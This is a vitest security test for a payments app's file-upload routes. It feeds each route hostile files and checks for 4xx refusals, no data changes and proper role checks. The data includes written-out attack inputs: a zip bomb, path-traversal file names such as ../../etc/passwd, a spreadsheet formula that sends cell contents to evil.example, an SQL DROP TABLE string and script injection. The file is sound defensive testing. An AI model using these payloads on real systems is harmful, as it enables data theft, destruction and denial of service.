// Every upload route against hostile files: each is answered 4xx (never 5xx) with a message, and
// changes no row of any table but the attempt's own record (the Upload with its rows and its audit
// line, kept by design: docs/file-formats.md#rules-for-every-upload), which must say REJECTED.
// Each route is also tried by every role and signed out. Formula cells come back escaped in the
// error report. The file ends by printing one summary line built from these counts.
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateRawSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { routes as accessRoutes } from "@/lib/auth/access";
import type { CurrentUser } from "@/lib/auth/current-user";
import { ALL_ROLES, type Role } from "@/lib/auth/roles";
import { SHIPPED_BANK_HOLIDAYS } from "@/lib/bank-holidays/bank-holidays";
import { londonDate } from "@/lib/dates/london-date";
import { LocalFileStore } from "@/lib/storage/local-file-store";
import { loadUploadErrorReport } from "@/lib/uploads/load-upload-error-report";
import { MB } from "@/lib/uploads/upload-limits";
import { useFreshRoutes } from "../support/fresh-routes";
import { makeUser } from "../support/make-user";
import { useTestDatabase } from "../support/test-db";
import { failedLine, key, makeSentBatch, type SentBatch } from "../uploads/upload-test-support";
import {
  makeVoucherBatch,
  paymentCodeLine,
  RECONCILIATION_HEADER,
  reconciliationLine,
  voucherCode,
  voucherPence,
  voucherReference,
  type VoucherBatch,
} from "../payout/voucher-upload-support";
import { FILE_COLUMNS, FILE_HEADER, filePlan, NEW_ROW } from "../plans/enrolments-file-support";
import { hasMessage, newTally, reportTally, rowsChanged, snapshot, type Bookkeeping } from "./abuse-support";

let signedIn: CurrentUser | null = null;
vi.mock("@/lib/auth/current-user", () => ({ getCurrentUser: async () => signedIn }));

const { db, url } = useTestDatabase();
const freshRoutes = useFreshRoutes();
const files = mkdtempSync(path.join(tmpdir(), "disburse-abuse-uploads-"));
const tally = newTally();
const BOUNDARY = "----disburse-abuse-boundary";
// The attempt's own record: what every upload keeps, whatever its outcome.
const BOOKKEEPING: Bookkeeping = { Upload: "true", UploadRow: "true", AuditLog: `x."entityType" = 'Upload'` };

type Post = (request: Request) => Promise<Response>;

interface CsvShape {
  header?: string;
  /** A well-formed row of the kind, as cells. */
  row: () => string[];
  /** The cell a person reads to know who a row is about (a reference, a name): where hidden characters matter. */
  key: number;
  /** The cell the row is matched by (a reference). */
  ref: number;
  /** A cell holding an amount or a count. */
  amount: number;
  /** A cell holding a date, if the kind has one. */
  date?: number;
}

interface RouteUnderTest {
  path: string;
  roles: readonly Role[];
  post?: Post;
  csv?: CsvShape;
}

let failedBatch: SentBatch;
let vouchers: VoucherBatch;
let planCode: string;
const today = londonDate(new Date());

const ROUTES: Record<string, RouteUnderTest> = {
  "failed-payments": {
    path: "/api/uploads/failed-payments",
    roles: accessRoutes.uploadFailedPayments,
    csv: { row: () => failedLine(failedBatch, 1).split(","), key: 4, ref: 4, amount: 3 },
  },
  "payout-payment-codes": {
    path: "/api/uploads/payout-payment-codes",
    roles: accessRoutes.uploadPayoutPaymentCodes,
    csv: {
      row: () => paymentCodeLine(voucherReference("Q", 1), voucherPence(1), voucherCode("Q", 1)).split(","),
      key: 12,
      ref: 12,
      // No date: the file's date columns are the Payout file's own, not read back.
      amount: 0,
    },
  },
  "payout-reconciliation": {
    path: "/api/uploads/payout-reconciliation",
    roles: accessRoutes.uploadPayoutReconciliation,
    csv: {
      header: RECONCILIATION_HEADER,
      row: () => reconciliationLine(voucherReference("Q", 1), voucherCode("Q", 1), voucherPence(1), "CASHED", today).split(","),
      key: 0,
      ref: 0,
      amount: 2,
      date: 4,
    },
  },
  "bank-holidays": { path: "/api/uploads/bank-holidays", roles: accessRoutes.uploadBankHolidays },
  enrolment: {
    path: "/api/uploads/enrolment",
    roles: accessRoutes.uploadEnrolment,
    csv: {
      header: FILE_HEADER,
      row: () => FILE_COLUMNS.map((c) => (NEW_ROW as Record<string, string>)[c] ?? ""),
      key: FILE_COLUMNS.indexOf("First Name"),
      ref: FILE_COLUMNS.indexOf("Person Reference"),
      // No amounts in an enrolment file: the account number is its number that must be exact.
      amount: FILE_COLUMNS.indexOf("Account Number"),
      date: FILE_COLUMNS.indexOf("Date of Birth"),
    },
  },
};

beforeAll(async () => {
  const env = {
    DATABASE_URL: url(),
    DISBURSE_MODE: "production",
    AUTH_SECRET: "a".repeat(40),
    BANK_DETAILS_KEY: key.toString("base64"),
    BANK_DETAILS_LOOKUP_KEY: Buffer.alloc(32, 6).toString("base64"),
    FILE_STORE_DIR: path.join(files, "store"),
    UPLOAD_MAX_MB: "1",
  };
  const loaded = await freshRoutes(env, () =>
    Promise.all([
      import("@/app/api/uploads/failed-payments/route"),
      import("@/app/api/uploads/payout-payment-codes/route"),
      import("@/app/api/uploads/payout-reconciliation/route"),
      import("@/app/api/uploads/bank-holidays/route"),
      import("@/app/api/uploads/enrolment/route"),
    ]),
  );
  Object.values(ROUTES).forEach((route, i) => (route.post = loaded[i].POST as Post));

  const now = new Date();
  failedBatch = await makeSentBatch(db(), 3, "F", new Date(now.getTime() - 86_400_000));
  vouchers = await makeVoucherBatch(db(), {
    n: 2,
    tag: "Q",
    deliveredAt: new Date(now.getTime() - 86_400_000),
    expiresOn: "2099-12-31",
  });
  planCode = (await filePlan(db(), "ABUSE-PLAN")).code;
  ROUTES.enrolment.path = `/api/uploads/enrolment?plan=${planCode}`;
  ROUTES["payout-payment-codes"].path = `/api/uploads/payout-payment-codes?batch=${vouchers.batchId}`;
});

afterAll(() => {
  rmSync(files, { recursive: true, force: true });
  reportTally(tally);
});

// ---------------------------------------------------------------------------------------------
// The hostile files.

type Hostile = { name: string; bytes: Buffer; fileName?: string; request?: (url: string) => Request };

const utf8 = (text: string) => Buffer.from(text, "utf8");
const lines = (...rows: string[]) => utf8(`${rows.join("\n")}\n`);

/** A minimal zip holding one entry of 50 MB of zeros, deflated to a few KB: never to be unpacked. */
function zipBomb(): Buffer {
  const data = deflateRawSync(Buffer.alloc(50 * MB));
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8); // deflate
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(50 * MB, 22);
  header.writeUInt16LE(8, 26);
  return Buffer.concat([header, utf8("bomb.csv"), data]);
}

/** A file of `rows`, the kind's header first. */
function csvFile(shape: CsvShape, rows: string[][]): Buffer {
  return lines(...(shape.header ? [shape.header] : []), ...rows.map((cells) => cells.map(quoteIfNeeded).join(",")));
}
const quoteIfNeeded = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);

/** A file of one good row with `cell` changed to `value`. */
function oneRow(shape: CsvShape, cell: number, value: string): Buffer {
  const row = shape.row();
  row[cell] = value;
  return csvFile(shape, [row]);
}

/** The good row again with another amount (or account number): the same thing said two ways. */
function sameWithAmount(shape: CsvShape): string[] {
  const row = shape.row();
  row[shape.amount] = row[shape.amount].replace(/\d(?=\D*$)/, (d) => String((Number(d) + 1) % 10));
  return row;
}

/** The good row's text with bytes put inside its key cell. */
function withBytes(shape: CsvShape, bytes: number[]): Buffer {
  const text = csvFile(shape, [shape.row()]).toString("utf8");
  const value = shape.row()[shape.key];
  const at = text.lastIndexOf(value);
  return Buffer.concat([utf8(text.slice(0, at + 1)), Buffer.from(bytes), utf8(text.slice(at + 1))]);
}

/** Hostile inputs any upload gets, whatever its format. */
function generalHostile(good: Buffer): Hostile[] {
  return [
    { name: "an empty file", bytes: Buffer.alloc(0) },
    { name: "only a byte order mark", bytes: Buffer.from([0xef, 0xbb, 0xbf]) },
    { name: "only blank lines", bytes: utf8("\n\n\r\n\n") },
    {
      name: "a PNG image",
      bytes: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]),
    },
    { name: "a zip of 50 MB of zeros", bytes: zipBomb() },
    { name: "a gzip of the file", bytes: gzipSync(good) },
    { name: "UTF-16LE with a byte order mark", bytes: Buffer.from(`\uFEFF${good.toString("utf8")}`, "utf16le") },
    { name: "UTF-16BE with a byte order mark", bytes: Buffer.from(`\uFEFF${good.toString("utf8")}`, "utf16le").swap16() },
    { name: "a file over the 1 MB limit", bytes: Buffer.concat([good, Buffer.alloc(MB, "\n")]) },
    { name: "10,000 columns", bytes: utf8(`${"1,".repeat(9_999)}1\n`) },
    { name: "one line of 1 MB", bytes: utf8(`${"x".repeat(MB - 10)}\n`) },
    { name: "20,000 short lines", bytes: utf8("1\n".repeat(20_000)) },
    { name: "an HTML page", bytes: utf8("<!doctype html><html><body><script>alert(1)</script></body></html>\n") },
    { name: "JSON where CSV is due, or CSV where JSON is due", bytes: utf8('{"claimant":{"firstName":"Ada"}}\n') },
    { name: "a raw NUL byte", bytes: Buffer.concat([good.subarray(0, 3), Buffer.from([0]), good.subarray(3)]) },
    { name: "an escape sequence", bytes: utf8("\u001B[2J\u001B[31mcleared\n") },
    {
      name: "traversal file name ../../etc/passwd",
      bytes: utf8("root:x:0:0:root:/root:/bin/bash\n"),
      fileName: "../../etc/passwd",
    },
    { name: "traversal file name ..\\..\\windows", bytes: utf8("x\n"), fileName: "..\\..\\windows\\system32\\x.csv" },
    { name: "a file name with a NUL", bytes: utf8("x\n"), fileName: "report\u0000.csv" },
    { name: "a file name of 5,000 characters", bytes: utf8("y\n"), fileName: `${"a".repeat(5_000)}.csv` },
    { name: "a file name with a right-to-left override", bytes: utf8("z\n"), fileName: "report\u202Evsc.exe" },
    { name: "a form without a file", bytes: Buffer.alloc(0), request: (url) => multipart(url, [textPart("note", "hello")]) },
    {
      name: "the file under another field",
      bytes: Buffer.alloc(0),
      request: (url) => multipart(url, [filePart("document", "a.csv", good)]),
    },
    { name: "a body that is not a form", bytes: Buffer.alloc(0), request: (url) => raw(url, good, "application/json") },
    { name: "a form cut off mid-file", bytes: Buffer.alloc(0), request: (url) => cutOff(url, good) },
  ];
}

/** Hostile rows of a CSV kind, each in an otherwise well-formed file. */
function csvHostile(shape: CsvShape): Hostile[] {
  const good = csvFile(shape, [shape.row()]);
  const k = shape.key;
  const text = good.toString("utf8").trimEnd();
  const dated: Hostile[] =
    shape.date === undefined
      ? [
          { name: "an amount of Infinity", bytes: oneRow(shape, shape.amount, "Infinity") },
          { name: "an amount in hexadecimal", bytes: oneRow(shape, shape.amount, "0x10") },
        ]
      : [
          { name: "a date in year 0", bytes: oneRow(shape, shape.date, "0000-01-01") },
          { name: "a date in 9999", bytes: oneRow(shape, shape.date, "9999-12-31") },
        ];
  return [
    ...generalHostile(good),
    { name: "Latin-1 é in a cell", bytes: withBytes(shape, [0xe9]) },
    { name: "a surrogate encoded as UTF-8 (CESU-8)", bytes: withBytes(shape, [0xed, 0xa0, 0x80]) },
    { name: "an overlong encoding", bytes: withBytes(shape, [0xc0, 0xaf]) },
    { name: "a NUL inside a quoted cell", bytes: oneRow(shape, k, '"A\u0000B"') },
    { name: "a right-to-left override in the key cell", bytes: oneRow(shape, k, `${shape.row()[k]}\u202E`) },
    { name: "a zero-width space in the key cell", bytes: oneRow(shape, k, `\u200B${shape.row()[k]}`) },
    { name: "a formula in the key cell", bytes: oneRow(shape, k, '=HYPERLINK("http://evil.example/?"&A1,"Click")') },
    { name: "a semicolon-locale formula in the reference", bytes: oneRow(shape, shape.ref, "x;=1+1") },
    { name: "a leading-space formula in the key cell", bytes: oneRow(shape, k, " @SUM(1+1)") },
    { name: "SQL in the reference", bytes: oneRow(shape, shape.ref, `'; DROP TABLE "Payment"; --`) },
    { name: "bare CR line ends", bytes: utf8(`${text.replace(/\n/g, "\r")}\r${text.split("\n").at(-1)}\r`) },
    { name: "CRLF and CR mixed", bytes: utf8(`${text}\r\n${text.split("\n").at(-1)}\r`) },
    { name: "an unbalanced quote", bytes: utf8(`${text.replace(shape.row()[k], `"${shape.row()[k]}`)}\n`) },
    { name: "a quote in the middle of the reference", bytes: oneRow(shape, shape.ref, `${shape.row()[shape.ref]}"x`) },
    { name: "an amount of 1e308", bytes: oneRow(shape, shape.amount, "1e308") },
    { name: "an amount of 25 digits", bytes: oneRow(shape, shape.amount, "9".repeat(25)) },
    { name: "a negative amount", bytes: oneRow(shape, shape.amount, "-10.01") },
    { name: "NaN as an amount", bytes: oneRow(shape, shape.amount, "NaN") },
    { name: "a no-break space in the amount", bytes: oneRow(shape, shape.amount, "10\u00A0.01") },
    ...dated,
    { name: "the same row twice, the second with another amount", bytes: csvFile(shape, [shape.row(), sameWithAmount(shape)]) },
    { name: "a sep=; line first", bytes: utf8(`sep=;\n${good.toString("utf8")}`) },
    {
      name: "a header row only",
      bytes: lines(
        shape.header ??
          shape
            .row()
            .map((_, i) => `Column ${i + 1}`)
            .join(","),
      ),
    },
  ];
}

/** Hostile bank-holiday calendars: JSON, read whole. */
function bankHolidayHostile(): Hostile[] {
  const calendar = () => SHIPPED_BANK_HOLIDAYS.map((h) => ({ ...h }));
  const good = utf8(JSON.stringify(calendar()));
  const changed = (change: (c: { date: string; title: string }[]) => void) => {
    const c = calendar();
    change(c);
    return utf8(JSON.stringify(c));
  };
  const text = good.toString("utf8");
  return [
    ...generalHostile(good),
    { name: "JSON nested 400,000 deep", bytes: utf8("[".repeat(400_000) + "]".repeat(400_000)) },
    { name: "a date given twice in one entry", bytes: utf8(text.replace('{"date":', '{"date":"1999-01-01","date":')) },
    { name: "a NUL in a title", bytes: changed((c) => (c[0].title = "New Year\u0000")) },
    { name: "a lone surrogate in a title", bytes: changed((c) => (c[0].title = "New Year\ud800")) },
    { name: "a date in year 0", bytes: changed((c) => (c[0].date = "0000-01-01")) },
    { name: "a date written with a time", bytes: changed((c) => (c[0].date = `${c[0].date}T00:00:00Z`)) },
    { name: "a date with a zero-width space", bytes: changed((c) => (c[0].date = `${c[0].date}\u200B`)) },
    { name: "a date with a right-to-left override", bytes: changed((c) => (c[0].date = `\u202E${c[0].date}`)) },
    { name: "a number as a date", bytes: changed((c) => ((c[0] as { date: unknown }).date = 1e308)) },
    { name: "a formula as a date", bytes: changed((c) => (c[0].date = "=1+1")) },
    { name: "the same date twice", bytes: changed((c) => c.push({ ...c[0] })) },
    { name: "an empty list", bytes: utf8("[]") },
    { name: "null", bytes: utf8("null") },
    { name: "a text", bytes: utf8('"2026-12-25"') },
    { name: "Latin-1 é in a title", bytes: Buffer.concat([utf8(text.slice(0, 30)), Buffer.from([0xe9]), utf8(text.slice(30))]) },
    { name: "trailing garbage", bytes: utf8(`${text}x`) },
    { name: "a list of 1 MB of nulls", bytes: utf8(`[${"null,".repeat(MB / 5)}null]`) },
  ];
}

// ---------------------------------------------------------------------------------------------
// Requests.

type Part = { head: string; body: Buffer };
const filePart = (field: string, fileName: string, body: Buffer): Part => ({
  head: `Content-Disposition: form-data; name="${field}"; filename="${fileName.replace(/"/g, "%22")}"\r\nContent-Type: text/csv`,
  body,
});
const textPart = (field: string, value: string): Part => ({
  head: `Content-Disposition: form-data; name="${field}"`,
  body: utf8(value),
});

function multipart(url: string, parts: Part[]): Request {
  const body = Buffer.concat([
    ...parts.flatMap((p) => [Buffer.from(`--${BOUNDARY}\r\n${p.head}\r\n\r\n`, "utf8"), p.body, utf8("\r\n")]),
    utf8(`--${BOUNDARY}--\r\n`),
  ]);
  return raw(url, body, `multipart/form-data; boundary=${BOUNDARY}`);
}

function cutOff(url: string, file: Buffer): Request {
  const whole = multipart(url, [filePart("file", "cut.csv", file)]);
  return raw(
    url,
    Buffer.from(`--${BOUNDARY}\r\n${filePart("file", "cut.csv", file).head}\r\n\r\n${file.toString("utf8").slice(0, 5)}`),
    whole.headers.get("content-type")!,
  );
}

function raw(url: string, body: Buffer, contentType: string): Request {
  return new Request(`http://localhost${url}`, {
    method: "POST",
    body: new Uint8Array(body),
    headers: { "Content-Type": contentType, Accept: "application/json" },
  });
}

function requestFor(route: RouteUnderTest, hostile: Hostile): Request {
  if (hostile.request) return hostile.request(route.path);
  return multipart(route.path, [filePart("file", hostile.fileName ?? "hostile.csv", hostile.bytes)]);
}

const as = async (role: Role): Promise<CurrentUser> => {
  const user = await makeUser(db(), { role });
  return { id: user.id, email: user.email, name: user.name, role, mustChangePassword: false };
};

/** Sends one request, checks the answer is a 4xx with a message, and that nothing but the attempt's record changed. */
async function expectRefused(routeName: string, label: string, send: () => Promise<Response>, expected?: number[]) {
  const before = await snapshot(db(), BOOKKEEPING);
  const uploadsBefore = await db().upload.count();
  const notRejectedBefore = await db().upload.count({ where: { status: { not: "REJECTED" } } });
  const response = await send();
  const text = await response.text();
  let answer: unknown = null;
  try {
    answer = JSON.parse(text);
  } catch {
    /* not JSON: unexpected below */
  }
  const changed = rowsChanged(before, await snapshot(db(), BOOKKEEPING));
  const n = Object.values(changed).reduce((a, b) => a + b, 0);
  const notRejected = (await db().upload.count({ where: { status: { not: "REJECTED" } } })) - notRejectedBefore;
  tally.rowsChanged += n;
  const statusOk = expected ? expected.includes(response.status) : response.status >= 400 && response.status < 500;
  const ok = statusOk && hasMessage(answer) && n === 0 && notRejected === 0;
  if (!ok) {
    tally.unexpected.push(
      `${routeName} ${label}: ${response.status} ${text.slice(0, 300)} changed=${JSON.stringify(changed)} notRejected=${notRejected}`,
    );
  }
  return { status: response.status, answer, newUploads: (await db().upload.count()) - uploadsBefore };
}

// ---------------------------------------------------------------------------------------------

describe("every upload route refuses hostile files", () => {
  it("answers every role not allowed 403 and a signed-out caller 401, reading and recording nothing", async () => {
    for (const [name, route] of Object.entries(ROUTES)) {
      tally.routes.add(name);
      for (const role of ALL_ROLES) {
        tally.roles.add(role);
        signedIn = await as(role);
        if (route.roles.includes(role)) continue; // the allowed roles send the corpus below
        const { newUploads } = await expectRefused(
          name,
          `as ${role}`,
          () => route.post!(requestFor(route, { name: "", bytes: utf8("x\n") })),
          [403],
        );
        expect(newUploads).toBe(0);
      }
      tally.roles.add("signed out");
      signedIn = null;
      await expectRefused(name, "signed out", () => route.post!(requestFor(route, { name: "", bytes: utf8("x\n") })), [401]);
    }
  });

  it.each(Object.keys(ROUTES))(
    "%s: at least 30 hostile files, each a 4xx with a message, nothing changed",
    async (name) => {
      const route = ROUTES[name];
      const hostile = route.csv ? csvHostile(route.csv) : bankHolidayHostile();
      expect(hostile.length).toBeGreaterThanOrEqual(30);
      for (const role of route.roles) {
        signedIn = await as(role);
        for (const h of hostile) {
          tally.inputs += 1;
          await expectRefused(name, `${h.name} as ${role}`, () => route.post!(requestFor(route, h)));
        }
      }
    },
    300_000,
  );

  it("kept every stored file inside the store, whatever the file name said", () => {
    const store = path.join(files, "store");
    // Nothing was written next to the store, where ../ would lead.
    expect(readdirSync(files)).toEqual(["store"]);
    const walk = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
        e.isDirectory() ? walk(path.join(dir, e.name)) : [path.join(dir, e.name)],
      );
    const stored = walk(store).map((file) => path.relative(store, file));
    expect(stored.length).toBeGreaterThan(0);
    for (const file of stored) {
      expect(file.split(path.sep)).not.toContain("..");
      for (const hostile of ["\\", "\u0000", "\u202E"]) expect(file).not.toContain(hostile);
    }
  });

  it("writes formula cells into the error report as text", async () => {
    const upload = await db().upload.findFirstOrThrow({
      where: { kind: "SSCL_FAILED_PAYMENTS", rows: { some: { outcome: "ERROR", lineNo: { gt: 0 } } }, byteSize: { gt: 0 } },
      orderBy: { uploadedAt: "asc" },
      select: { id: true },
    });
    expect(upload.id).toBeTruthy();
    const reports: string[] = [];
    for (const u of await db().upload.findMany({ where: { kind: "SSCL_FAILED_PAYMENTS" }, select: { id: true } })) {
      const report = await loadUploadErrorReport(db(), new LocalFileStore(path.join(files, "store")), u.id);
      if (report) reports.push(report.bytes.toString("utf8"));
    }
    const all = reports.join("");
    expect(all).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(all).toContain(`"'x;=1+1"`);
    expect(all).toContain(`"' @SUM(1+1)"`);
  });

  it("the detector sees a change: a good failed-payments file is applied and changes rows", async () => {
    signedIn = await as("SSCL_FINANCE");
    const route = ROUTES["failed-payments"];
    const before = await snapshot(db(), BOOKKEEPING);
    const response = await route.post!(requestFor(route, { name: "good", bytes: lines(failedLine(failedBatch, 2)) }));
    expect(response.status).toBe(200);
    const changed = rowsChanged(before, await snapshot(db(), BOOKKEEPING));
    expect(changed.Payment).toBe(1);
  });
});
